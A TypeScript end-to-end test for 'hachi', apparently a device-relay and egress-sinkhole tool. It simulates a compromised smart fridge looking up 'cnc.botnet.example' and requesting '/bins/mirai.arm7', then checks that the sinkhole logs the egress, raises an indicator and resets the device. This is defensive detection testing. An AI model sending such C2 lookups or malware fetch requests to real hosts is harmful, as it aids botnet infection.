// End to end: `hachi run` with the egress sinkhole on. A relayed device (127.0.0.2 on loopback) that
// calls out — a DNS lookup of its C2, a TCP connection fetching a payload — lands at the sinkhole as
// the firewall would send it there: device.egress events name the device, the query and the first
// bytes; the compromise indicator fires and the device's reset hook runs.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
import { encodeDnsQuery } from '../../src/testing/dns-query.ts';
import { startHachi, type RunningHachi } from './hachi-process.ts';
import { freePort } from './loopback-ports.ts';
import { storedEvents } from './stored-events.ts';

const DEVICE_IP = '127.0.0.2';
let hachi: RunningHachi;

before(async () => {
  hachi = await startHachi([], {
    services: [],
    relay: { sinkhole: { enabled: true, host: '127.0.0.1', tcpPort: 0, udpPort: 0, conntrack: null, idleTimeoutMs: 300 } },
    devices: [
      {
        name: 'fridge-proto',
        product: 'SmartFridge (prototype)',
        firmware: '0.9.1',
        address: DEVICE_IP,
        health: { enabled: false },
        reset: { command: ['/bin/sh', '-c', 'echo reflashed'], settleMs: 100, drainTimeoutMs: 100 },
        services: [{ protocol: 'tcp', host: '127.0.0.1', port: 0, devicePort: await freePort() }],
      },
    ],
  });
});

after(async () => {
  await hachi.stop();
});

/** The sinkhole's bound port, from the status table hachi prints once it runs. */
async function sinkholePort(kind: 'tcp' | 'udp'): Promise<number> {
  const pattern = new RegExp(`sinkhole-${kind}\\s+sinkhole\\s.*listening on [^\\s]*:(\\d+)`);
  const deadline = Date.now() + 20_000;
  for (;;) {
    const match = pattern.exec(hachi.output());
    if (match) return Number(match[1]);
    assert.ok(Date.now() < deadline, `no sinkhole in: ${hachi.output()}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

test('a device calling out lands at the sinkhole: device.egress, the indicator, and a reset', async () => {
  const udp = createSocket('udp4');
  await new Promise<void>((resolve) => udp.bind(0, DEVICE_IP, resolve));
  const udpPort = await sinkholePort('udp');
  await new Promise<void>((resolve, reject) => udp.send(encodeDnsQuery(0x4242, 'cnc.botnet.example'), udpPort, '127.0.0.1', (e) => (e ? reject(e) : resolve())));
  udp.close();
  const tcp = connect({ host: '127.0.0.1', port: await sinkholePort('tcp'), localAddress: DEVICE_IP });
  tcp.on('error', () => undefined);
  await new Promise((resolve) => tcp.once('connect', resolve));
  tcp.write('GET /bins/mirai.arm7 HTTP/1.0\r\nHost: 203.0.113.5\r\n\r\n');

  const egress = await storedEvents(hachi, 'device.egress', () => true, 2);
  const dns = egress.find((e) => e.data['protocol'] === 'udp');
  assert.deepEqual([dns?.data['device'], dns?.data['dnsName']], ['fridge-proto', 'cnc.botnet.example']);
  const call = egress.find((e) => e.data['protocol'] === 'tcp');
  assert.equal(call?.data['device'], 'fridge-proto');
  assert.match(String(call?.data['preview']), /^GET \/bins\/mirai\.arm7 HTTP\/1\.0/);
  tcp.destroy();

  const indicators = await storedEvents(hachi, 'device.indicator', () => true, 1);
  assert.deepEqual([indicators[0]?.data['device'], indicators[0]?.data['indicator'], indicators[0]?.data['action']], ['fridge-proto', 'egress', 'reset']);
  const resets = await storedEvents(hachi, 'device.reset', () => true, 1);
  assert.deepEqual([resets[0]?.data['trigger'], resets[0]?.data['exitCode'], resets[0]?.data['detail']], ['indicator', 0, 'reflashed']);
});
